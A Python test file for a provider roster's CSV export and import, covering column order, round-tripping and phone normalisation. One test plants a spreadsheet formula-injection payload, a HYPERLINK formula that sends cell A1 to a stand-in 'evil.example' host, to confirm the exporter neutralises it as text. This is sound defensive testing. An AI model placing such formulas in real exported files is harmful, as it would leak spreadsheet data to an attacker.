"""Roster export: the import's columns, and what it writes imports back unchanged."""

from providers.models import Provider, Specialty
from providers.roster_csv import COLUMNS, export_roster, import_roster
from referrals.services import Actor


def test_export_has_the_import_columns_and_reimports_unchanged(ana, ben, cigna):
    ana.credentials = "LCSW"
    ana.save()
    ana.insurance_networks.add(cigna)
    ana.specialties.set([Specialty.objects.create(name="Anxiety")])

    text = export_roster()

    lines = text.splitlines()
    assert lines[0] == ",".join(COLUMNS)
    assert lines[1].startswith(
        "Ana,Lee,ana.lee@example.com,'+12012230001,U0ANA,active,Aetna; Cigna,LCSW,Anxiety"
    )
    summary = import_roster(text, actor=Actor("t"))
    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 2)


def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text(ana):
    ana.bio = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    ana.save()

    text = export_roster()

    assert ",'=HYPERLINK(" in text.replace('"', "")  # shown as text, never run
    summary = import_roster(text, actor=Actor("t"))
    assert summary.unchanged == 1  # and the apostrophe comes off again on import
    ana.refresh_from_db()
    assert ana.bio.startswith("=HYPERLINK(")


def test_the_office_phone_for_clients_is_an_optional_column_read_as_people_type_it(db, aetna):
    csv = (
        "first_name,last_name,email,phone,slack_user_id,status,insurance_networks,office_phone\n"
        "Ana,Lee,ana@example.com,2012345678,,active,Aetna,(212) 555-0111\n"
    )
    import_roster(csv, actor=Actor("test"))
    ana = Provider.objects.get(email="ana@example.com")
    assert (ana.phone, ana.office_phone) == ("+12012345678", "+12125550111")
    assert export_roster().splitlines()[1].endswith(",'+12125550111")  # a text cell
